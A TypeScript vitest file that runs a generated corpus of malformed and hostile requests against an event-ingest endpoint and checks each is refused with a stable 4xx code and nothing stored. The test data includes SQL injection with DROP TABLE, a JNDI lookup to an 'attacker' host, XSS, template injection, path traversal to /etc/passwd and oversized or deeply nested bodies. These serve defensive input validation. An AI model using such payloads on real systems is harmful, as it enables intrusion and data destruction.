import { randomUUID } from 'node:crypto';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { getAccessStore } from '@touchline/access';
import { openEventStore, type OpenedEventStore } from '@touchline/event-store';
import { createAuthenticator, createLogger, httpApp } from '@touchline/runtime';
import { ingestRoutes } from './ingestRoutes.ts';

// A generated corpus of bad requests. Each must get its documented 4xx with a stable code (and the
// field, where one is at fault), and the store must hold nothing of any of them.

interface Case {
  readonly name: string;
  readonly body: string;
  readonly auth?: 'none' | 'read' | 'admin' | 'garbage' | 'revoked' | 'malformed' | 'basic-empty';
  readonly contentType?: string;
  readonly status: number;
  readonly code: string;
  readonly field?: string;
}

const valid = { type: 'page.viewed', channel: 'web', userId: 'u-1', data: { path: '/' } };
const json = (value: unknown) => JSON.stringify(value);
// Built as text: JSON.stringify itself overflows the stack on hostile depth.
const nested = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);

function corpus(): Case[] {
  const cases: Case[] = [];
  const bad = (
    name: string,
    value: unknown,
    field: string,
    status = 400,
    code = 'TL_INVALID_FIELD',
  ) =>
    cases.push({
      name,
      body: typeof value === 'string' ? value : json(value),
      status,
      code,
      field,
    });

  // Malformed JSON.
  for (const [i, text] of [
    '{',
    '}',
    '{"type": "page.viewed",',
    "{'type': 'page.viewed'}",
    '{"type": "page.viewed",}',
    '{"a": NaN}',
    '{"a": Infinity}',
    '{"a": undefined}',
    '{"a": 1} // comment',
    '{"a": 01}',
    '{"a": "unterminated}',
    '{"a": "\\x41"}',
    '[1, 2',
    'nul',
    'tru',
    '{"a" 1}',
    '{"a": [1,,2]}',
    '{,}',
    '\u0000',
    '{"a": "\\ud800"',
  ].entries()) {
    cases.push({
      name: `malformed JSON #${i}`,
      body: text,
      status: 400,
      code: 'TL_INVALID_JSON',
      field: '(body)',
    });
  }
  cases.push({
    name: 'empty body',
    body: '',
    status: 400,
    code: 'TL_INVALID_JSON',
    field: '(body)',
  });

  // Bodies that are JSON but not a touchpoint.
  for (const value of [null, 1, 'text', true, [], [valid]])
    bad(`body is ${json(value)}`, json(value), '(body)');

  // Wrong types, field by field.
  const wrong: unknown[] = [42, true, null, ['x'], { x: 1 }, 4.5];
  for (const field of ['type', 'channel', 'userId', 'occurredAt', 'id']) {
    for (const value of wrong)
      bad(`${field} = ${json(value)}`, { ...valid, [field]: value }, field);
  }
  for (const value of [42, 'text', ['x'], true])
    bad(`data = ${json(value)}`, { ...valid, data: value }, 'data');
  for (const value of [42, 'text', ['x']])
    bad(`context = ${json(value)}`, { ...valid, context: value }, 'context');
  for (const value of [42, ['x']])
    bad(`anonymousId = ${json(value)}`, { ...valid, anonymousId: value }, 'anonymousId');

  // Missing or placeholder customer ids.
  bad('no ids at all', { type: 'page.viewed', channel: 'web', data: { path: '/' } }, 'userId');
  bad('no type', { channel: 'web', userId: 'u', data: { path: '/' } }, 'type');
  bad('no channel', { type: 'page.viewed', userId: 'u', data: { path: '/' } }, 'channel');
  for (const placeholder of [
    'null',
    'undefined',
    'NULL',
    'Undefined',
    '0',
    '-1',
    '',
    '   ',
    'nil',
    'none',
    'NaN',
    '[object Object]',
  ]) {
    bad(`userId placeholder ${json(placeholder)}`, { ...valid, userId: placeholder }, 'userId');
    bad(
      `anonymousId placeholder ${json(placeholder)}`,
      { ...valid, userId: undefined, anonymousId: placeholder },
      'anonymousId',
    );
  }

  // Values out of range or of the wrong shape.
  for (const channel of [
    'fax',
    'WEB',
    'web ',
    'carrier_pigeon',
    "web' OR '1'='1",
    '<script>alert(1)</script>',
  ]) {
    bad(`channel ${json(channel)}`, { ...valid, channel }, 'channel');
  }
  for (const type of [
    'Page Viewed',
    'page',
    'page..viewed',
    '.page.viewed',
    'PAGE.VIEWED',
    'webinar.attended',
    "x'); DROP TABLE tl_events; --",
    'page.viewed; DELETE FROM tl_streams',
    '{{7*7}}.x',
    '../../etc/passwd',
    'a.b.c.d.e.f',
  ]) {
    bad(`type ${json(type)}`, { ...valid, type }, 'type');
  }
  for (const occurredAt of [
    'yesterday',
    '2026-13-01T00:00:00Z',
    '2026-01-01',
    '1700000000',
    '2026-01-01T25:00:00Z',
    "2026-01-01' OR 1=1",
  ]) {
    bad(`occurredAt ${json(occurredAt)}`, { ...valid, occurredAt }, 'occurredAt');
  }
  for (const id of ['not-a-uuid', '123', 'g0b6f7c1-5b7a-4a53-9f53-2b1f0b0b7a01', "' OR 1=1 --"])
    bad(`id ${json(id)}`, { ...valid, id }, 'id');
  bad('unknown top-level field', { ...valid, amount: 5 }, 'amount');
  bad('userId over 200 characters', { ...valid, userId: 'u'.repeat(201) }, 'userId');

  // Catalogue: typed data validated strictly.
  const order = { orderId: 'o-1', amount: 10, currency: 'EUR' };
  bad(
    'order without orderId',
    { ...valid, type: 'order.placed', data: { amount: 1, currency: 'EUR' } },
    'data.orderId',
  );
  bad(
    'order with negative amount',
    { ...valid, type: 'order.placed', data: { ...order, amount: -1 } },
    'data.amount',
  );
  bad(
    'order amount as string',
    { ...valid, type: 'order.placed', data: { ...order, amount: '10' } },
    'data.amount',
  );
  bad(
    'order currency lower-case',
    { ...valid, type: 'order.placed', data: { ...order, currency: 'eur' } },
    'data.currency',
  );
  bad(
    'order with unknown key',
    { ...valid, type: 'order.placed', data: { ...order, discount: 2 } },
    'data.discount',
  );
  for (const score of [0, 6, 2.5, -1, '5']) {
    bad(
      `csat score ${json(score)}`,
      { ...valid, type: 'survey.answered', data: { kind: 'csat', score } },
      'data.score',
    );
  }
  for (const score of [-1, 11, 7.5]) {
    bad(
      `nps score ${json(score)}`,
      { ...valid, type: 'survey.answered', data: { kind: 'nps', score } },
      'data.score',
    );
  }
  bad(
    'case with unknown kind',
    { ...valid, type: 'case.opened', data: { caseId: 'k', kind: 'rant' } },
    'data.kind',
  );
  bad(
    'visit with bad type',
    {
      ...valid,
      type: 'field_visit.scheduled',
      data: { visitId: 'v', visitType: 'party', slotStart: '2026-01-01T10:00:00Z' },
    },
    'data.visitType',
  );
  bad(
    'points not an integer',
    { ...valid, type: 'loyalty.points_earned', data: { points: 1.5 } },
    'data.points',
  );
  bad('page path without slash', { ...valid, data: { path: 'home' } }, 'data.path');

  // Unicode a store cannot keep, anywhere.
  for (const [label, text] of [
    ['NUL', 'a\u0000b'],
    ['lone high surrogate', 'a\uD800'],
    ['lone low surrogate', '\uDC00b'],
  ] as const) {
    bad(`${label} in userId`, { ...valid, userId: text }, 'userId');
    bad(`${label} in data value`, { ...valid, data: { path: '/', note: text } }, 'data.note');
    bad(`${label} in context`, { ...valid, context: { ua: text } }, 'context.ua');
    bad(`${label} in a data key`, { ...valid, data: { path: '/', [`k${text}`]: 1 } }, 'data');
    bad(`${label} in type`, { ...valid, type: `page.${text}` }, 'type');
  }

  // Injection strings where an enum, a pattern or a UUID is expected.
  const injections = [
    "' OR '1'='1",
    '1; DROP TABLE tl_events',
    '" OR ""="',
    "admin'--",
    '${jndi:ldap://attacker/a}',
    '<img src=x onerror=alert(1)>',
    "{{constructor.constructor('return 1')()}}",
    '%00',
    '../../../../etc/passwd',
    '$where: 1 == 1',
  ];
  for (const [i, text] of injections.entries()) {
    bad(`injection #${i} in type`, { ...valid, type: text }, 'type');
    bad(`injection #${i} in channel`, { ...valid, channel: text }, 'channel');
    bad(`injection #${i} in id`, { ...valid, id: text }, 'id');
  }

  // Hostile nesting.
  for (const depth of [33, 100, 1_000, 5_000]) {
    bad(
      `data nested ${depth} deep`,
      `{"type":"page.viewed","channel":"web","userId":"u","data":{"path":"/","deep":${nested(depth)}}}`,
      `data.deep${'[0]'.repeat(30)}`, // named where the depth limit (32) is crossed
    );
    bad(
      `context nested ${depth} deep`,
      `{"type":"page.viewed","channel":"web","userId":"u","data":{"path":"/"},"context":{"deep":${nested(depth)}}}`,
      `context.deep${'[0]'.repeat(30)}`,
    );
  }

  // Oversized.
  for (const size of [33_000, 100_000, 400_000]) {
    cases.push({
      name: `touchpoint of ${size} bytes`,
      body: json({ ...valid, context: { blob: 'x'.repeat(size) } }),
      status: 413,
      code: 'TL_PAYLOAD_TOO_LARGE',
    });
  }
  cases.push({
    name: 'request over 500 KB',
    body: json({ ...valid, context: { blob: 'x'.repeat(600_000) } }),
    status: 413,
    code: 'TL_PAYLOAD_TOO_LARGE',
  });
  cases.push({
    name: 'huge userId string',
    body: json({ ...valid, userId: 'u'.repeat(40_000) }),
    status: 413,
    code: 'TL_PAYLOAD_TOO_LARGE',
  });

  // Batch envelopes refused as a whole.
  bad('batch not an array', { batch: { a: 1 } }, 'batch');
  bad('batch empty', { batch: [] }, 'batch');
  bad('batch of 501', { batch: Array.from({ length: 501 }, () => valid) }, 'batch');
  bad('batch of strings', { batch: ['a', 'b'] }, 'batch[0]');
  bad('batch with a stray key', { batch: [valid], extra: true }, 'extra');
  cases.push({
    name: 'batch every item invalid',
    body: json({
      batch: [
        { ...valid, channel: 'fax' },
        { ...valid, userId: 'null' },
      ],
    }),
    status: 400,
    code: 'BATCH_ALL_REJECTED',
  });

  // Wrong or missing keys.
  for (const auth of [
    'none',
    'read',
    'admin',
    'garbage',
    'revoked',
    'malformed',
    'basic-empty',
  ] as const) {
    const status = auth === 'read' || auth === 'admin' ? 403 : 401;
    cases.push({
      name: `key: ${auth}`,
      body: json(valid),
      auth,
      status,
      code: status === 403 ? 'TL_FORBIDDEN' : 'TL_UNAUTHORIZED',
    });
  }

  // Wrong media types.
  for (const contentType of [
    'application/xml',
    'multipart/form-data; boundary=x',
    'application/x-www-form-urlencoded',
  ]) {
    cases.push({
      name: `content-type ${contentType}`,
      body: json(valid),
      contentType,
      status: 415,
      code: 'TL_UNSUPPORTED_MEDIA_TYPE',
    });
  }
  return cases;
}

let store: OpenedEventStore;
let app: FastifyInstance;
const tokens: Record<string, string> = {};

beforeAll(async () => {
  store = await openEventStore({ kind: 'pglite' });
  const access = await getAccessStore(store.sql, { cacheMs: 0 });
  await access.createProject('acme');
  for (const kind of ['write', 'read', 'admin'] as const)
    tokens[kind] = (await access.issueKey('acme', kind)).token;
  const revoked = await access.issueKey('acme', 'write');
  await access.revokeKey('acme', revoked.keyId);
  tokens.revoked = revoked.token;
  app = httpApp(createLogger('silent'));
  const authenticate = createAuthenticator(access, {
    rateLimits: { write: 1e6, read: 1e6, admin: 1e6 },
  });
  await app.register(ingestRoutes, { store: store.store, authenticate, source: 'test' });
  await app.ready();
});

afterAll(async () => {
  await app.close();
  await store.store.close();
});

const authHeader = (auth: Case['auth']): Record<string, string> => {
  switch (auth) {
    case undefined:
      return { authorization: `Bearer ${tokens.write}` };
    case 'none':
      return {};
    case 'garbage':
      return { authorization: 'Bearer hello' };
    case 'malformed':
      return { authorization: `Bearer ${tokens.write!.slice(0, -3)}` };
    case 'basic-empty':
      return { authorization: `Basic ${Buffer.from(':').toString('base64')}` };
    default:
      return { authorization: `Bearer ${tokens[auth]}` };
  }
};

const storedCount = async () =>
  Number((await store.sql.query<{ n: string }>('SELECT count(*)::text AS n FROM tl_events'))[0]!.n);

const cases = corpus();

describe(`bad-input corpus (${cases.length} generated cases)`, () => {
  it('has at least 200 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(200);
  });

  it.each(cases.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
    const response = await app.inject({
      method: 'POST',
      url: '/v1/touchpoints',
      headers: {
        'content-type': c.contentType ?? 'application/json',
        ...authHeader(c.auth),
        'x-request-id': randomUUID(),
      },
      payload: c.body,
    });
    expect(response.statusCode, response.body.slice(0, 300)).toBe(c.status);
    const body = response.json<{
      error?: { code: string; field?: string };
      rejected?: number;
      accepted?: number;
    }>();
    if (c.code === 'BATCH_ALL_REJECTED') {
      expect(body).toMatchObject({ accepted: 0, rejected: 2 });
    } else {
      expect(body.error?.code).toBe(c.code);
      if (c.field !== undefined) expect(body.error?.field).toBe(c.field);
    }
    expect(await storedCount()).toBe(0);
  });
});
